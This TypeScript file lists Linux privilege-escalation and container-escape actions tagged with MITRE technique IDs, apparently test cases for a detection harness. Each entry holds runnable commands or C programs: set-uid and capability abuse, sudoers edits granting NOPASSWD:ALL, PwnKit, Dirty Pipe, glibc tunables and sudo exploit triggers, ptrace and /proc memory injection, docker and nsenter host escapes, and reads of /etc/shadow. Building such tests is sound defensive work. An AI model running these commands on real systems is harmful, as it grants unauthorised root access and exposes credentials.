import type { Action } from '../action.ts'
import { sleepingVictim } from '../loopback-server.ts'
import { standIn } from './stand-in.ts'

export const privilegeEscalation: readonly Action[] = [
  {
    id: 'blind-setuid-by-make',
    title: 'Set-uid program compiled, owned by root and run',
    technique: 'T1548.001',
    needs: ['gcc'],
    run: `printf '#include <unistd.h>\\nint main(){setuid(0);return execl("/usr/bin/id","id",(char*)0);}' > /tmp/hello.c
gcc -o /tmp/hello /tmp/hello.c; chown root /tmp/hello; chmod u+s /tmp/hello; /tmp/hello`,
    effect: 'test -u /tmp/hello',
  },
  {
    id: 'blind-setuid-bash',
    title: 'Set-uid copy of bash',
    technique: 'T1548.001',
    run: 'cp /bin/bash /var/tmp/.b; chmod 4755 /var/tmp/.b; setpriv --reuid=4242 --clear-groups /var/tmp/.b -p -c id',
    effect: 'grep -q euid=0 $OUT',
  },
  {
    id: 'blind-setgid-touch',
    title: 'Set-gid bit of a file',
    technique: 'T1548.001',
    run: 'touch /tmp/evilBinary; chown root /tmp/evilBinary; chmod g+xs /tmp/evilBinary',
    effect: 'test -g /tmp/evilBinary',
  },
  {
    id: 'blind-find-setuid',
    title: 'Set-uid and set-gid programs searched',
    technique: 'T1548.001',
    run: 'find /usr/bin -perm -4000; find /usr/bin -uid 0 -perm -2000 -type f 2>/dev/null; :',
    effect: 'grep -q bin $OUT',
  },
  {
    id: 'blind-setcap-find',
    title: 'Capability set on a program, and such programs searched',
    technique: 'T1548.001',
    needs: ['setcap', 'getcap'],
    run: `cp /usr/bin/python3 /tmp/cap 2>/dev/null; setcap cap_setuid=ep /tmp/cap; getcap -r /tmp 2>/dev/null`,
    effect: 'grep -q cap_setuid $OUT',
  },
  {
    id: 'blind-chmod-python',
    title: 'Set-uid bit by Python',
    technique: 'T1548.001',
    needs: ['python3'],
    run: `cp /bin/id /tmp/i; python3 -c 'import os; os.chmod("/tmp/i", 0o6755)'`,
    effect: 'test -u /tmp/i',
  },
  {
    id: 'blind-sudo-list',
    title: 'Rights of sudo listed and sudoers read',
    technique: 'T1548.003',
    needs: ['sudo'],
    run: 'sudo -n -l; cat /etc/sudoers; :',
    effect: 'test -s $OUT',
  },
  {
    id: 'blind-sudo-unlimited-cache',
    title: 'Timeout of sudo switched off, sudo restarted',
    technique: 'T1548.003',
    run: `sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers 2>/dev/null; echo 'Defaults timestamp_timeout=-1' >> /etc/sudoers; echo 'Defaults !tty_tickets' >> /etc/sudoers`,
    effect: 'grep -q tty_tickets /etc/sudoers',
  },
  {
    id: 'blind-sudoers-nopasswd',
    title: 'Everything allowed without password',
    technique: 'T1548.003',
    run: `mkdir -p /etc/sudoers.d; echo 'ann ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/ann`,
    effect: 'grep -q NOPASSWD /etc/sudoers.d/ann',
  },
  {
    id: 'blind-sudo-u-minus-one',
    title: 'The user -1 by sudo',
    technique: 'T1068',
    before: standIn('sudo'),
    run: 'sudo -u#-1 /bin/bash -c id; sudo -u#4294967295 id',
  },
  {
    id: 'blind-sudoedit-overflow',
    title: 'Backslash as argument of sudoedit',
    technique: 'T1068',
    before: standIn('sudoedit'),
    run: `sudoedit -s 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\'`,
  },
  {
    id: 'blind-pkexec-no-arguments',
    title: 'pkexec without arguments, from C',
    technique: 'T1068',
    before: standIn('pkexec'),
    program: {
      language: 'c',
      text: '#include <unistd.h>\nint main() { char *a[] = {0}, *e[] = {"pwnkit", "PATH=GCONV_PATH=.", "SHELL=/x", "CHARSET=PWNKIT", "GIO_USE_VFS=", 0}; return execve("/usr/bin/pkexec", a, e); }',
    },
    run: '$PROGRAM',
  },
  {
    id: 'blind-glibc-tunables',
    title: 'Overlong tunables of glibc for a set-uid program',
    technique: 'T1068',
    needs: ['su'],
    run: `env -i "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A" "Z=$(head -c 4096 /dev/zero | tr '\\0' x)" /usr/bin/su --help`,
    effect: 'grep -q -i usage $OUT',
  },
  {
    id: 'blind-dirty-pipe',
    title: 'Pipe spliced with a file that only root may write',
    technique: 'T1068',
    program: {
      language: 'c',
      text: `#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <stdio.h>
int main() {
  int p[2], fd = open("/etc/passwd", O_RDONLY); pipe(p);
  int size = fcntl(p[1], F_GETPIPE_SZ); static char b[4096];
  for (int r = size; r > 0;) r -= write(p[1], b, r > 4096 ? 4096 : r);
  for (int r = size; r > 0;) r -= read(p[0], b, r > 4096 ? 4096 : r);
  long at = 3; splice(fd, &at, p[1], 0, 1, 0);
  return write(p[1], "xx", 2) != 2;
}`,
    },
    run: 'setpriv --reuid=4242 --clear-groups $PROGRAM',
  },
  {
    id: 'blind-user-namespace',
    title: 'Root in a user namespace',
    technique: 'T1548',
    as: 'ann',
    needs: ['unshare'],
    requires: 'setpriv --reuid=4242 --clear-groups unshare -Ur true',
    run: 'unshare -Urm sh -c "id; mount -t tmpfs x /mnt"',
    effect: 'grep -q uid=0 $OUT',
  },
  {
    id: 'blind-ptrace-write',
    title: 'Process attached and its memory written by ptrace',
    technique: 'T1055.008',
    before: sleepingVictim,
    program: {
      language: 'c',
      text: `#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/user.h>
#include <stdlib.h>
#include <stdio.h>
int main(int n, char **v) {
  int pid = atoi(v[1]); struct user_regs_struct r;
  if (ptrace(PTRACE_ATTACH, pid, 0, 0)) return 1;
  waitpid(pid, 0, 0);
  if (ptrace(PTRACE_GETREGS, pid, 0, &r)) return 2;
  long w = ptrace(PTRACE_PEEKTEXT, pid, r.rip, 0);
  if (ptrace(PTRACE_POKETEXT, pid, r.rip, w)) return 3;
  return ptrace(PTRACE_DETACH, pid, 0, 0);
}`,
    },
    run: '$PROGRAM $(cat /run/victim)',
  },
  {
    id: 'blind-gdb-inject',
    title: 'Call in another process by gdb',
    technique: 'T1055.008',
    needs: ['gdb'],
    before: sleepingVictim,
    run: 'gdb -p $(cat /run/victim) -batch -ex "call (int)getpid()" 2>&1; :',
    effect: 'grep -qi attach $OUT || test -s $OUT',
  },
  {
    id: 'blind-proc-mem-dd',
    title: 'Memory of a process written by dd through /proc',
    technique: 'T1055.009',
    needs: ['dd'],
    before: sleepingVictim,
    run: `P=$(cat /run/victim); A=$((0x$(sed -n 's/-.*//;1p' /proc/$P/maps)))
dd if=/proc/$P/mem of=/tmp/page bs=1 skip=$A count=4; dd if=/tmp/page of=/proc/$P/mem bs=1 seek=$A count=4 conv=notrunc`,
    effect: 'test -s /tmp/page',
  },
  {
    id: 'blind-proc-mem-python',
    title: 'The same by Python',
    technique: 'T1055.009',
    needs: ['python3'],
    before: sleepingVictim,
    run: `python3 -c '
p = open("/run/victim").read().strip()
a = [int(l.split("-")[0], 16) for l in open(f"/proc/{p}/maps") if "[stack]" in l][0]
m = open(f"/proc/{p}/mem", "r+b", 0)
m.seek(a + 131072); b = m.read(4); m.seek(a + 131072); m.write(b); print("written")'`,
    effect: 'grep -q written $OUT',
  },
  {
    id: 'blind-vm-writev',
    title: 'Memory of a process written by process_vm_writev',
    technique: 'T1055',
    before: sleepingVictim,
    program: {
      language: 'c',
      text: `#define _GNU_SOURCE
#include <sys/uio.h>
#include <stdio.h>
#include <stdlib.h>
int main(int n, char **v) {
  char path[64], line[256], b[4]; unsigned long at = 0;
  sprintf(path, "/proc/%s/maps", v[1]); FILE *f = fopen(path, "r");
  while (fgets(line, sizeof line, f)) if (sscanf(line, "%*x-%lx rw", &at) == 1 && __builtin_strstr(line, "[stack]")) break;
  struct iovec l = {b, 4}, r = {(void *)(at - 8), 4};
  if (process_vm_readv(atoi(v[1]), &l, 1, &r, 1, 0) != 4) return 1;
  return process_vm_writev(atoi(v[1]), &l, 1, &r, 1, 0) != 4;
}`,
    },
    run: '$PROGRAM $(cat /run/victim)',
  },
  {
    id: 'blind-release-agent',
    title: 'release_agent of a group of cgroup v1',
    technique: 'T1611',
    run: `mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp || mount -t tmpfs x /tmp/cgrp
mkdir /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release 2>/dev/null
touch /tmp/cgrp/release_agent 2>/dev/null; rmdir /tmp/cgrp/x 2>/dev/null; mount | grep cgrp; umount /tmp/cgrp`,
    effect: 'grep -q cgrp $OUT',
  },
  {
    id: 'blind-nsenter-host',
    title: 'Namespaces of the first process entered',
    technique: 'T1611',
    needs: ['nsenter'],
    run: 'nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c "id; hostname"',
    effect: 'grep -q uid=0 $OUT',
  },
  {
    id: 'blind-setns-python',
    title: 'The same by setns from Python',
    technique: 'T1611',
    needs: ['python3'],
    run: `python3 -c '
import os
os.setns(os.open("/proc/1/ns/uts", os.O_RDONLY), 0); os.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0); print("entered")'`,
    effect: 'grep -q entered $OUT',
  },
  {
    id: 'blind-disk-device',
    title: 'Device of the disk looked for and mounted',
    technique: 'T1611',
    before: standIn('fdisk', 'mount', 'debugfs'),
    run: `fdisk -l; mkdir -p /mnt/T1611; mount /dev/sda1 /mnt/T1611; debugfs /dev/dm-0 -R 'cat /etc/shadow'`,
  },
  {
    id: 'blind-chroot-host',
    title: 'chroot into the folder of the host',
    technique: 'T1611',
    needs: ['chroot'],
    run: 'mkdir /host; mount --bind / /host; chroot /host /bin/sh -c id; umount /host',
    effect: 'grep -q uid=0 $OUT',
  },
  {
    id: 'blind-docker-group-mount',
    title: 'Root of the host mounted by a user of the group docker',
    technique: 'T1611',
    before: standIn('docker'),
    run: 'docker run -v /:/mnt --rm -it alpine chroot /mnt sh -c "cat /etc/shadow"',
  },
]
